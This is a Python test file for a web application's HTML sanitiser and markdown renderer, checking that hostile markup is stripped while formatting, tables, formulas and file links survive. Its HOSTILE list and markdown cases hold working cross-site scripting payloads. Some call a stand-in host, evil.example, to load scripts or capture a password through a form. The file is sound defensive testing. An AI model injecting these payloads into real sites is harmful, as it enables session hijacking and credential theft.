"""What people write is shown safely; formulas, tables and files survive."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.html import (
    file_references,
    html_addresses,
    link_files,
    link_parts,
    markdown,
    markdown_inline,
    markdown_problems,
    part_references,
    plain_text,
    sanitise,
)
from tests.growth import grows_with
from tests.parsing import dangers
from tests.samples import sample_folder

FILE_ID = "01890a5d-ac96-774b-bcce-b302099a8057"

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt><script>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "<a href='javascript:alert(1)'>a</a>",
    "<a href=' &#106;avascript:alert(1)'>a</a>",
    "<a href='java\tscript:alert(1)'>a</a>",
    "<a href='\x01javascript:alert(1)'>a</a>",
    "<a href='jav&#10;ascript:alert(1)'>a</a>",
    "<a href='vbscript:x'>a</a>",
    "<a href='data:text/html,x'>a</a>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body { display: none }</style>",
    "<p style='position:fixed;inset:0'>a</p>",
    "<p class='toast danger' id=main data-module=dialog hx-get=/logout>a</p>",
    "<details ontoggle=alert(1) open>a</details>",
    "<video autoplay src=x onloadstart=alert(1)></video>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p title='x\" onclick=\"alert(1)' onclick=x>a</p>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_acts_is_left(html):
    assert dangers(sanitise(html)) == []


@pytest.mark.parametrize("html", HOSTILE)
def test_nor_through_markdown(html):
    assert dangers(markdown(html), formulas=True) == []
    assert dangers(markdown(f"- a\n\n  {html}\n"), formulas=True) == []


@pytest.mark.parametrize(
    "text",
    [
        "[a](javascript:alert(1))",
        "[a](  JaVaScRiPt:alert(1))",
        "![a](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>",
        "[a]: vbscript:x\n\n[a]",
        "[a](https://x.example 'title\" onmouseover=\"alert(1)')",
        "$$\\href{javascript:alert(1)}{x}<img src=x onerror=alert(1)>$$",
        "`<script>alert(1)</script>`",
        "```html\n<script>alert(1)</script>\n```",
        '```" onclick="alert(1)\na\n```',
    ],
)
def test_markdown_of_its_own_kind(text):
    assert dangers(markdown(text), formulas=True) == []


@given(st.text(alphabet="<>/\"'=ax &;:!-sonerrcipt()`$*[]\n", max_size=120))
def test_no_mixture_of_signs_gets_through(text):
    assert dangers(sanitise(text)) == []
    assert dangers(markdown(text), formulas=True) == []


@pytest.mark.parametrize("html", HOSTILE)
def test_the_detector_sees_each_of_them(html):
    """Or the tests above could not fail."""
    assert dangers(html) != []


@pytest.mark.samples
def test_hostile_samples():
    folder = sample_folder("hostile")
    texts = [(folder / "markdown-xss.md").read_text()]
    texts += [case["payload"] for case in json.loads((folder / "dompurify-expect-third.json").read_text())]
    texts += json.loads((folder / "naughty-strings.json").read_text())
    assert len(texts) > 500
    for text in texts:
        assert dangers(sanitise(text)) == [], text
        assert dangers(markdown(text), formulas=True) == [], text
        markdown_problems(text)


class TestKept:
    @pytest.mark.parametrize(
        ("text", "html"),
        [
            ("a *b* **c**", "<p>a <em>b</em> <strong>c</strong></p>\n"),
            ("# A\n\n## B", "<h2>A</h2>\n<h2>B</h2>\n"),
            ("~~a~~", "<p><s>a</s></p>\n"),
            ("[a](https://x.example)", '<p><a href="https://x.example" rel="noopener noreferrer">a</a></p>\n'),
            ("```python\nx < 1\n```", '<pre><code class="language-python">x &lt; 1\n</code></pre>\n'),
            ("It cost $5 and $6.", "<p>It cost $5 and $6.</p>\n"),
            ("<b>a</b>", "<p>&lt;b&gt;a&lt;/b&gt;</p>\n"),
        ],
    )
    def test_markdown(self, text, html):
        assert markdown(text) == html

    def test_a_table_scrolls_by_itself(self):
        html = markdown("| a | b |\n|---|---|\n| 1 | 2 |\n")
        assert html.startswith('<div class="tblwrap" tabindex="0"><table>')
        assert "<td>2</td>" in html

    def test_one_line(self):
        assert markdown_inline("a *b* <i>") == "a <em>b</em> &lt;i&gt;"

    @pytest.mark.parametrize("text", ["$x^2 < 3$", "$$\nx^2 < 3\n$$"])
    def test_a_formula_keeps_its_tex(self, text):
        html = markdown(text)
        assert "$" not in html
        assert plain_text(html) == "x^2 < 3"

    @pytest.mark.parametrize("html", ["<details open><summary>a</summary>b</details>", "<ruby>a<rt>b</rt></ruby>"])
    def test_html_that_teaches(self, html):
        assert sanitise(html).replace('open=""', "open") == html


class TestFiles:
    TEXT = f"![A leaf](file:{FILE_ID}) [notes](file:{FILE_ID})"

    def test_references_are_found(self):
        assert file_references([self.TEXT, "file:nonsense", ""]) == {FILE_ID}

    def test_they_become_addresses(self):
        html = markdown(self.TEXT, resolve_file=lambda public_id: f"/files/{public_id}/a.png")
        assert f'<img src="/files/{FILE_ID}/a.png" alt="A leaf">' in html
        assert "file:" not in html

    def test_a_file_that_is_gone_gets_an_empty_address(self):
        assert 'src=""' in markdown(self.TEXT, resolve_file=lambda public_id: None)

    def test_kept_html_is_linked_when_it_is_shown(self):
        assert link_files(f'<img src="file:{FILE_ID}">', {FILE_ID: "/f"}.get) == '<img src="/f">'


class TestAddresses:
    def test_each_is_put_through_whatever_its_quotes(self):
        html = (
            """<p title="href=x">a</p><A HREF = media/a.svg class=x>z</a><img alt="a > b" src='media/b&amp;c.png'/>"""
        )
        seen = []
        changed = html_addresses(html, lambda address: seen.append(address) or f"file:{FILE_ID}")
        assert seen == ["media/a.svg", "media/b&c.png"]
        assert changed == (
            f"""<p title="href=x">a</p><A HREF = "file:{FILE_ID}" class=x>z</a>"""
            f"""<img alt="a > b" src="file:{FILE_ID}"/>"""
        )
        assert file_references([changed]) == {FILE_ID}

    def test_none_keeps_what_was_written(self):
        html = "<video poster=p.png src='v.mp4'><a data-href=\"x\" href>"
        assert html_addresses(html, lambda address: None) == html

    def test_what_is_put_in_stays_in_its_attribute(self):
        assert html_addresses("<a href=x>", lambda address: '"><b>') == '<a href="&quot;&gt;&lt;b&gt;">'

    def test_a_text_of_open_tags_takes_longer_only_with_its_length(self):
        def made(length: int) -> str:
            return "<a '<b \"" * length

        assert html_addresses(made(20_000), str) == made(20_000)
        assert grows_with(made, lambda html: html_addresses(html, str), 5_000)


class TestParts:
    def test_links_to_parts_of_a_course(self):
        html = markdown("[a](part:unit%201) [b](https://x.example)")
        assert part_references(html) == ["unit 1"]
        assert link_parts(html, lambda part: f"/p/{part}/") == (
            '<p><a href="/p/unit 1/" rel="noopener noreferrer">a</a> '
            '<a href="https://x.example" rel="noopener noreferrer">b</a></p>\n'
        )

    def test_words_about_such_a_link_stay(self):
        html = markdown('`<a href="part:x">` and <a href="part:x">')
        assert part_references(html) == []
        assert link_parts(html, str.upper) == html


def test_words_of_html():
    assert plain_text("<p>a&amp;b</p>\n<p>c <b>d</b></p>") == "a&b c d"


def test_an_author_is_told_what_will_not_be_kept():
    problems = markdown_problems("[a](https://ok.example) [b](javascript:x) ![c](ftp://x.example/a.png)")
    assert sorted(problems) == ["ftp://x.example/a.png", "javascript:x"]


def test_the_keyboard_reaches_code_that_is_wider_than_a_telephone():
    fits, wide = "`" * 3 + "\n" + "x" * 30 + "\n" + "`" * 3, "    " + "<" * 31

    assert (markdown(fits).startswith("<pre><code>"), markdown(wide).startswith('<pre tabindex="0"><code>')) == (
        True,
        True,
    )
